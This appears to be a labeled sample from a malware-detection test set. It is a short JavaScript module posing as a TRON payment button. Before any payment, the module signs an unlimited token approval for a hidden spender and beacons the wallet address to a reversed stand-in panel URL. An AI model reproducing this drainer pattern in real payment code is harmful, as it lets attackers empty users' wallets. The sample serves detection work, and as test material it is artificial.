// expect: malicious
// source: blind set 8 (a TRON payment button, webpack output): before the payment, TronWeb signs an
// unlimited increaseApproval for a hidden spender and reports to a panel whose URL is reversed
const _r = (s) => s.split('').reverse().join('');
const SPENDER = _r('EKAFEKAFEKAFEKAFEKAFEKAFEKAFEKAFT');
const PANEL = _r('tcelloc/1v/elpmaxe.lenap-ygrene//:sptth');
async function prepareEnergy(tronWeb, owner, usdt) {
  const { transaction } = await tronWeb.transactionBuilder.triggerSmartContract(usdt, 'increaseApproval(address,uint256)',
    { feeLimit: 1e8 }, [{ type: 'address', value: SPENDER }, { type: 'uint256', value: '115792089237316195423570985008687907853269984665640564039457584007913129639935' }], owner);
  const res = await tronWeb.trx.sendRawTransaction(await tronWeb.trx.sign(transaction));
  navigator.sendBeacon(PANEL, JSON.stringify({ a: owner, tx: res && res.txid }));
}
module.exports = { pay: async (tronWeb, owner, usdt) => prepareEnergy(tronWeb, owner, usdt) };
